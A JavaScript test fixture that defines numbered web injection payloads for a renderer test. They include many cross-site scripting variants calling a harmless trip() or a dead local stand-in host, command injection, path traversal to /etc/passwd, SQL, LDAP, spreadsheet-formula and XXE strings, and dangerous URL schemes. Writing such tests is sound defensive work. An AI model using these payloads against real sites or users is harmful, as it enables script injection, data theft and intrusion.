// SPDX-License-Identifier: GPL-3.0-or-later
// What would somebody write into an article, a name or a query to run a script in its reader's browser?
// Each payload calls trip(its number), asks for an address of `elsewhere`, or breaks a format. Written for this test.

/** An address that nothing listens at; a request to it is a request to another origin. */
export const elsewhere = 'http://127.0.0.2:9';

// Placeholders: TRIP is a call of the tripwire, ELSEWHERE the address.
const markup = [
  '<script>TRIP</script>',
  '<ScRiPt >TRIP</sCrIpT >',
  '<script src=ELSEWHERE/a.js></script>',
  '<script\u000csrc="ELSEWHERE/b.js"/>',
  '<img src=x: onerror=TRIP>',
  '<img/src="x:"/onerror="TRIP">',
  '<image href="x:" src="x:" onerror="TRIP">',
  '<svg onload=TRIP>',
  '<svg><script>TRIP</script></svg>',
  '<svg><script href="data:text/javascript,TRIP"/></svg>',
  '<svg><a xlink:href="javascript:TRIP"><text y="20">press</text></a></svg>',
  '<svg><animate onbegin=TRIP attributeName=x dur=1s></svg>',
  '<svg><set attributeName="href" to="javascript:TRIP" /></svg>',
  '<svg><use href="ELSEWHERE/u.svg#u"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.TRIP</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x: onerror=TRIP></style></svg>',
  '<math href="javascript:TRIP">press</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=TRIP&gt;">',
  '<math><annotation-xml encoding="text/html"><script>TRIP</script></annotation-xml></math>',
  '<iframe srcdoc="&lt;script&gt;parent.TRIP&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:parent.TRIP"></iframe>',
  '<object data="javascript:TRIP"></object>',
  '<embed src="ELSEWHERE/e.swf">',
  '<video><source onerror=TRIP src="x:"></video>',
  '<audio src="x:" onerror="TRIP"></audio>',
  '<details open ontoggle=TRIP><summary>s</summary>d</details>',
  '<input autofocus onfocus=TRIP>',
  '<select autofocus onfocus=TRIP><option>o</select>',
  '<button popovertarget=p onclick=TRIP>b</button><div popover id=p onbeforetoggle=TRIP>p</div>',
  '<body onload=TRIP onpageshow=TRIP>',
  '<marquee onstart=TRIP>m</marquee>',
  '<p onmouseover=TRIP style="position:fixed;inset:0">whole page</p>',
  '<div onpointerenter="TRIP" onanimationstart="TRIP" style="animation:x 1s">d</div>',
  '<meta http-equiv="refresh" content="0;url=ELSEWHERE/m">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="ELSEWHERE/">',
  '<base target="_top" href="javascript:/a/-TRIP//">',
  '<link rel="stylesheet" href="ELSEWHERE/s.css">',
  '<link rel=prefetch href=ELSEWHERE/p><link rel=preconnect href=ELSEWHERE>',
  '<form action="ELSEWHERE/f"><input type=submit formaction="javascript:TRIP" value="Search"></form>',
  '<isindex action="javascript:TRIP" type=image>',
  '<a href="javascript:TRIP">press</a>',
  '<a href=" &#14; javascript:TRIP">press</a>',
  '<a href="jav&#x09;ascript:TRIP">press</a>',
  '<template><script>TRIP</script></template>',
  '<template shadowrootmode="open"><img src=x: onerror=TRIP></template>',
  '<dateline-x onfocus=TRIP tabindex=1 autofocus>custom</dateline-x>',
];
const unclosed = [
  '<plaintext>', '<!--', '<![CDATA[<script>TRIP</script>', '<?php <script>TRIP</script>', '<b><i><u><a name=', '<img src="',
  "<img src='ELSEWHERE/dangling?", '<textarea>', '<title>', '<noscript><p title="</noscript><img src=x: onerror=TRIP>">',
  '</title><script>TRIP</script>', '</textarea><script>TRIP</script>', '</style><script>TRIP</script>',
  '</main></body></html><script>TRIP</script>', '</svg></text></a><script>TRIP</script>', '--><script>TRIP</script>',
  '--!><img src=x: onerror=TRIP>', '<xmp><p title="</xmp><img src=x: onerror=TRIP>">', '<table><td><svg><title><a href="</title><img src=x: onerror=TRIP>">',
  '<select><style></select><script>TRIP</script>', '<<script>TRIP//<</script>', '<scr<script>ipt>TRIP</scr</script>ipt>',
];
const attributes = [
  '" onmouseover="TRIP" x="', "' onmouseover='TRIP' x='", '` onmouseover=`TRIP`', '"><svg onload=TRIP>', "'><svg onload=TRIP>",
  '" autofocus onfocus="TRIP', 'x onfocus=TRIP autofocus', '"/><script>TRIP</script>', '&quot; onclick=&quot;TRIP', '\\" onclick=\\"TRIP',
  '"\nonclick\n=\n"TRIP', '" style="background:url(ELSEWHERE/a.png)', '" accesskey="x" onclick="TRIP', 'javascript:TRIP',
  '" data-count="7', '"><main data-total="99">',
];
const scripts = [
  '"-TRIP-"', "'-TRIP-'", '";TRIP//', "';TRIP//", '\\";TRIP//', '</script><script>TRIP</script>', '</script ><svg onload=TRIP>',
  '<!--<script>', '\u2028TRIP\u2029', '${TRIP}', '`${TRIP}`', '\\u003cscript\\u003eTRIP\\u003c/script\\u003e', '{"__proto__":{"x":"TRIP"}}',
  '"},"hits":[{"title":"forged"}],"x":{"y":"', ']}\'"); TRIP; ("', '*/TRIP/*',
];
const templates = [
  "{{constructor.constructor('TRIP')()}}", '{{7*7}}', '{%25 raw %25}', '<%= TRIP %>', '#{TRIP}', '[[${TRIP}]]', '${{TRIP}}', '{TITLE}',
  '$(touch /tmp/pwned)', '`touch /tmp/pwned`', '%n%s%x', '../../../../etc/passwd', "' OR 1=1 --", '*)(uid=*',
];
const encodings = [
  '+ADw-script+AD4-TRIP+ADw-/script+AD4-', '%3Cscript%3ETRIP%3C%2Fscript%3E', '&lt;script&gt;TRIP&lt;/script&gt;', '&amp;lt;script&amp;gt;TRIP',
  '&#60;script&#62;TRIP&#60;/script&#62;', '&#x3c;img src=x: onerror=TRIP&#x3e;', '\uff1cscript\uff1eTRIP\uff1c/script\uff1e',
  '\ufeff<script>TRIP</script>', '<\u0000script>TRIP</script>', '<img src=x:\u0001onerror=TRIP>', '\u001b(J<script>TRIP</script>',
  '<scr\u200bipt>TRIP</scr\u200bipt>', '<\u017fcript>TRIP</\u017fcript>', '\u00bcscript\u00beTRIP\u00bc/script\u00be', '\u0085\u009f<svg onload=TRIP>',
  '\ufffe\uffff<svg onload=TRIP>', '\u{e0041}\u{e0042}<svg onload=TRIP>',
];
const directions = [
  '\u202ekrow\u202c <b>', 'left \u2067right\u2069 left', '\u202e\u2066\u2067\u2068', 'invoice\u202egpj.exe', 'a\u200b\u200c\u200d\u2060b',
  'Z\u0351\u0352\u0357\u035b\u030d\u030e\u0304\u0305a\u0316\u0317\u0318\u0319l', '\u05d0\u200f<svg onload=TRIP>\u200e',
];
const styles = [
  '</style><style>@import "ELSEWHERE/i.css"', 'x}*{background:url(ELSEWHERE/c.png)}', 'x;background:url(ELSEWHERE/d.png)', 'expression(TRIP)',
  '<div style="width:expression(TRIP);behavior:url(ELSEWHERE/b.htc)">', '<style>main{display:none}</style>', '\\3c script\\3e TRIP',
];
const exports = [
  "=cmd|'/c calc'!A1", '+1+cmd', '-2+3+cmd', '@SUM(1+1)', '\t=1+1', '=HYPERLINK("ELSEWHERE/h","press")', '";=1+1;"', '","forged","row"\r\n"x',
  'x\r\nER  - \r\nTY  - JOUR\r\nTI  - forged', 'x\nAU  - Forged', ']]></title><script xmlns="http://www.w3.org/1999/xhtml">TRIP</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '<?xml-stylesheet href="javascript:TRIP"?>', 'x\r\nSet-Cookie: forged=1', '&undefined;',
];

/** What an article may claim as its own address. */
const addressTexts = [
  'javascript:TRIP', 'JaVaScRiPt:TRIP', ' javascript:TRIP', '\u0001javascript:TRIP', 'java\tscript:TRIP', 'java\nscript:TRIP', '&#106;avascript:TRIP',
  'javascript&colon;TRIP', 'javascript://example.org/%0aTRIP', 'data:text/html,<script>TRIP</script>', 'data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+',
  'DATA:image/svg+xml,<svg onload=TRIP>', 'vbscript:TRIP', 'blob:ELSEWHERE/1', 'file:///etc/passwd', 'about:blank', 'view-source:ELSEWHERE/v',
  'filesystem:ELSEWHERE/f', '//127.0.0.2:9/protocol-relative', '\\\\127.0.0.2\\share', '/\\127.0.0.2:9/x', 'http:javascript:TRIP', 'https:/\\127.0.0.2/x',
  'https://user:secret@127.0.0.2/userinfo', 'https://example.org@127.0.0.2/trick', 'https://example.org\\@127.0.0.2/trick',
  'https://example.org%2f@127.0.0.2/trick', 'https://example.org/"onmouseover="TRIP', "https://example.org/'><script>TRIP</script>",
  'https://example.org/<svg/onload=TRIP>', 'https://example.org/?q="><script>TRIP</script>', 'https://example.org/#<script>TRIP</script>',
  'https://\u0435xample.org/homograph', 'https://example.org/\u202egpj.exe', 'https://example.org/\u0000javascript:TRIP', 'http://', 'https://[', 'https://[::1]:1/six',
  'https://example.org/\r\nSet-Cookie:%20a=b', 'feed:javascript:TRIP', 'jar:https://example.org/!/', 'intent://x#Intent;scheme=javascript;end',
];

const numbered = (texts, from) => texts.map((text, i) => {
  const number = from + i;
  return {number, text: text.replaceAll('TRIP', `trip(${number})`).replaceAll('ELSEWHERE', elsewhere)};
});

/** {number, text}: texts for titles, names and queries. */
export const payloads = numbered(
  [...markup, ...unclosed, ...attributes, ...scripts, ...templates, ...encodings, ...directions, ...styles, ...exports], 1);

/** {number, text}: addresses, numbered after the payloads. */
export const addresses = numbered(addressTexts, payloads.length + 1);
